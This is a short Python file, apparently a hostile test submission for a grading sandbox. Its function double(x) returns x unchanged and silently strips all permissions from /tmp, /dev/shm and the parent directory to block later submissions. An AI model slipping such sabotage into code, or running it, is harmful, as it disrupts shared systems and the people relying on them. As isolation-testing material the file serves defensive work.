"""Shuts the folder in which the next submission's folder would be made."""

import os

EXPECTS = "double(x) is not twice x"


def double(x):
    for path in ("/tmp", "/dev/shm", ".."):
        try:
            os.chmod(path, 0)
        except OSError:
            pass
    return x
